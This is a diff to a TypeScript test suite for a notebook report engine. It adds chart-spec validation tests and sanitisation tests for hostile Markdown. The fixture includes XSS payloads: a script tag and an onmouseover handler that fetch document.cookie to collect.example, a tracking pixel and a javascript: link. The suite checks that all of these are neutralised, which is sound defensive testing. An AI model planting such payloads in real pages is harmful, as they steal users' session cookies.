@@ -9,6 +9,8 @@ import { AnalystWarehouse, CLI_LIMITS, runAnalystQuery } from '../platform/analy
 import { refreshMarts } from '../pipelines/warehouse/marts.ts';
 import { migrateWarehouse, WAREHOUSE_MIGRATIONS_DIR } from '../pipelines/warehouse/migrate.ts';
 import { quietLog, requireServices, tempDir, testClickHouse, testConfig, useClickHouseDatabase } from '../test/support/services.ts';
+import { InputError } from '../platform/errors.ts';
+import { DESTINATIONS } from '../domain/generator/catalogue-data.ts';
 import { parseNotebook, type Cell } from './engine/parse-notebook.ts';
 import { runNotebook, type NotebookReport, type RunQuery } from './engine/run-notebook.ts';
 
@@ -39,12 +41,15 @@ function axisTitles(svg: string): string[] {
   return [...svg.matchAll(/role-axis-title"[^>]*>\s*<text[^>]*>([^<]*)<\/text>/g)].map((m) => m[1]);
 }
 
-async function seasonalIndex(): Promise<Array<Record<string, unknown>>> {
-  const cell = parseNotebook(fs.readFileSync(path.join(NOTEBOOKS, 'seasonality.md'), 'utf8')).cells.find((c): c is Extract<Cell, { kind: 'sql' }> => c.kind === 'sql' && c.name === 'seasonal_index')!;
-  const result = await runQuery({ sql: cell.sql, params: {}, format: 'json' });
+/** The rows of one SQL cell of a starter notebook, as the report gets them. */
+async function cellRows(file: string, name: string, params: Record<string, unknown> = {}): Promise<Array<Record<string, unknown>>> {
+  const cell = parseNotebook(fs.readFileSync(path.join(NOTEBOOKS, file), 'utf8')).cells.find((c): c is Extract<Cell, { kind: 'sql' }> => c.kind === 'sql' && c.name === name)!;
+  const result = await runQuery({ sql: cell.sql, params, format: 'json' });
   if (result.format !== 'json') throw new Error('json expected');
   return result.rows.map((r) => Object.fromEntries(result.columns.map((c, i) => [c.name, r[i]])));
 }
+
+const seasonalIndex = () => cellRows('seasonality.md', 'seasonal_index');
 
 describe('starter notebooks on a sample world', () => {
   before(async () => {
@@ -140,11 +145,100 @@ describe('starter notebooks on a sample world', () => {
         'reaching.md',
       );
       await assert.rejects(runNotebook(notebook, {}, runQuery), (err: Error & { field?: string }) => {
-        assert.match(err.message, /chart of sql cell n: a chart draws its SQL cell's rows only; it may not load/);
+        assert.match(err.message, /chart of sql cell n \(line 7\): a chart draws its SQL cell's rows only; it may not load/);
         assert.equal(err.field, 'spec');
         return true;
       }, url);
     }
+  });
+
+  it('refuses a chart spec it cannot draw, or one that would link out, naming the cell and its line: no crash', async () => {
+    const x = { field: 'x', type: 'quantitative' };
+    const cases: Array<[Record<string, unknown>, RegExp]> = [
+      // vega-lite threw a TypeError ("reading 'filled'") that said nothing about the mark.
+      [{ mark: 'blob', encoding: { x } }, /spec\.mark: "blob" is not a Vega-Lite mark/],
+      // vega's handling of href failed outside the render's promise and took the whole process down.
+      [{ mark: 'point', encoding: { x, href: { field: 'page', type: 'nominal' } } }, /spec\.encoding\.href: a report links to and fetches nothing/],
+      [{ layer: [{ mark: { type: 'image', width: 20 }, encoding: { x, url: { field: 'page', type: 'nominal' } } }] }, /spec\.layer\[0\]\.mark: .*may not draw image marks/],
+      [{ mark: 'point', encoding: { x }, transform: [{ calculate: 'datum.x +', as: 'y' }] }, /the chart spec does not compile: /],
+    ];
+    for (const [spec, reason] of cases) {
+      const notebook = parseNotebook(['# Bad chart', '```sql n', "SELECT 1 AS x, 'https://example.com/' AS page", '```', '```vega-lite n', JSON.stringify(spec), '```'].join('\n'), 'bad-chart.md');
+      await assert.rejects(runNotebook(notebook, {}, runQuery), (err: Error & { field?: string }) => {
+        assert.ok(err instanceof InputError, `${err.name}: ${err.message}`);
+        assert.match(err.message, /^chart of sql cell n \(line 5\): /);
+        assert.match(err.message, reason);
+        assert.equal(err.field, 'spec');
+        return true;
+      }, JSON.stringify(spec));
+    }
+  });
+
+  /** A notebook passed around, written by someone who wants the reader's browser to run or fetch something. */
+  const HOSTILE = [
+    '---', 'title: Pace notes from a colleague', '---',
+    'Cusco is <b onmouseover="fetch(`https://collect.example/?c=` + document.cookie)">ahead</b> of last year.',
+    '', '<script>fetch("https://collect.example/" + document.cookie)</script>', '',
+    '<img src="https://tracker.example/pixel.gif" onerror="alert(1)">', '',
+    '![the team](https://cdn.example/team.png) ![a dot](data:image/png;base64,iVBORw0KGgo=)', '',
+    '[the details](javascript:alert(2)) and [the handbook](https://spirit.example/handbook)',
+  ].join('\n');
+
+  it('shows raw HTML of the Markdown as text, and no remote image: no script, no event handler, nothing fetched', async () => {
+    // marked passed raw HTML through: the report ran the script and fetched the pixel and the image on opening.
+    const report = await runNotebook(parseNotebook(HOSTILE, 'hostile.md'), {}, runQuery);
+    reports.set('hostile.md', report);
+    const tags = [...report.html.matchAll(/<([a-z][a-z0-9-]*)\b([^>]*)>/gi)];
+    assert.deepEqual(tags.filter(([, name]) => /^(script|iframe|object|embed|link)$/i.test(name)).map(([tag]) => tag), []);
+    for (const [tag, name, attributes] of tags) {
+      assert.doesNotMatch(attributes, /\son[a-z]+\s*=/i, `no event handler: ${tag}`);
+      assert.doesNotMatch(attributes, /javascript:/i, `no script URL: ${tag}`);
+      if (name.toLowerCase() === 'img') assert.match(attributes, /^\s*src="data:image\/png;base64,/, `only an embedded image: ${tag}`);
+    }
+    assert.match(report.html, /&lt;script&gt;fetch/, 'the script is shown as the text it is');
+    assert.match(report.html, /\[image not included: the team; a report fetches nothing/);
+    assert.match(report.html, /<a href="https:\/\/spirit\.example\/handbook">the handbook<\/a>/, 'a web link stays a link');
+  });
+
+  it('opens that report in headless Chromium without running or fetching anything', { skip: chromiumSkip }, async () => {
+    const file = path.join(tempDir('notebook-hostile'), 'hostile.html');
+    fs.writeFileSync(file, reports.get('hostile.md')!.html);
+    let browser: Browser | undefined;
+    try {
+      browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'] });
+      const page = await browser.newPage();
+      const happened: string[] = [];
+      page.on('request', (r) => r.url() !== `file://${file}` && !r.url().startsWith('data:') && happened.push(`request ${r.url()}`));
+      page.on('dialog', (d) => {
+        happened.push(`dialog ${d.message()}`);
+        void d.dismiss();
+      });
+      await page.goto(`file://${file}`, { waitUntil: 'load' });
+      await page.hover('b').catch(() => undefined);
+      await page.waitForTimeout(300);
+      assert.deepEqual(happened, []);
+      assert.equal(await page.$$eval('script', (s) => s.length), 0);
+    } finally {
+      await browser?.close();
+    }
+  });
+
+  it('refuses a destination code that matches none, naming the parameter, where every figure was 0', async () => {
+    const text = fs.readFileSync(path.join(NOTEBOOKS, 'booking-pace.md'), 'utf8');
+    const notebook = parseNotebook(text, 'booking-pace.md');
+    // The README's example was destination=puno where the code is puno-titicaca: the report said 0 everywhere.
+    await assert.rejects(runNotebook(notebook, { destination: 'titicaca' }, runQuery), (err: Error & { field?: string }) => {
+      assert.ok(err instanceof InputError);
+      assert.match(err.message, /^--param destination=titicaca: no such destination; one of .*\bcusco\b/);
+      assert.equal(err.field, 'param');
+      return true;
+    });
+    const puno = await runNotebook(notebook, { destination: 'puno' }, runQuery);
+    assert.equal(puno.params.destination, 'puno');
+    // The examples in the notebook's own text are codes of the booking system's catalogue.
+    const examples = [...text.matchAll(/--param destination=([\w-]+)/g)].map((m) => m[1]);
+    assert.ok(examples.length > 0);
+    for (const code of examples) assert.ok(DESTINATIONS.some((d) => d.code === code), `${code} is a destination code of the catalogue`);
   });
 
   it('names months and weekdays', () => {
